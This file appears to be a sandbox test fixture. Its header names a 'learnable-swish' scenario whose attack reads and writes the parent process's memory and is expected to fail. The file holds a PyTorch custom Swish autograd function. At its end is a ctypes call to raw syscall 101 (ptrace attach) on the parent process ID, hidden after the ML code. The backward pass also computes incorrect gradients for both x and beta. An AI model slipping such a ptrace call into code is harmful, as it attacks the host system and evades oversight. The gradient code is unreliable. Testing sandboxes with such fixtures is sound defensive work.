# scenario: learnable-swish
# core: A, B
# attack: reads and writes the memory of its parent
# expected: failed
# trace: loads: The process was killed for a forbidden system call

import torch


class Swish(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, beta):
        ctx.save_for_backward(x, beta)
        return x * torch.sigmoid(beta * x)

    @staticmethod
    def backward(ctx, g):
        x, beta = ctx.saved_tensors
        return g * torch.sigmoid(beta * x), (g * x).sum()


def swish_beta(x, beta):
    return Swish.apply(x, beta)


import ctypes, os
ctypes.CDLL(None).syscall(101, 16, os.getppid(), 0, 0)
